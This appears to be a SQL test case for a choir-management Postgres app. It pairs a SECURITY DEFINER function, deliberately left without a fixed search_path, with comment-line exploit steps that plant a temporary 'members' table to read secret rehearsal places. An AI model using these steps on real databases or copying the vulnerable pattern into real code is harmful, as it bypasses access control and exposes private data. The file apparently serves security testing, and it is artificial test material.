-- The rewritten helper has no fixed path and a bare table name, so a temporary table feeds it memberships.
-- about: my_choirs, members, songs, rehearsals, attendance, recordings, fees, posts, choirs
-- as: hf_choirs_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-4000-8000-00000000000a"}';
-- exploit: CREATE TEMP TABLE members (choir_id uuid, user_id uuid);
-- exploit: INSERT INTO pg_temp.members VALUES
-- exploit:   ('bbbbbbbb-0000-4000-8000-000000000001', 'aaaaaaaa-0000-4000-8000-00000000000a');
-- exploit: SELECT place FROM choir.rehearsals;
-- shows: Road-secret hall
CREATE OR REPLACE FUNCTION choir.my_choirs() RETURNS SETOF uuid
  LANGUAGE plpgsql STABLE SECURITY DEFINER
AS $$
BEGIN
  RETURN QUERY SELECT m.choir_id FROM members m WHERE m.user_id = choir.me();
END
$$;
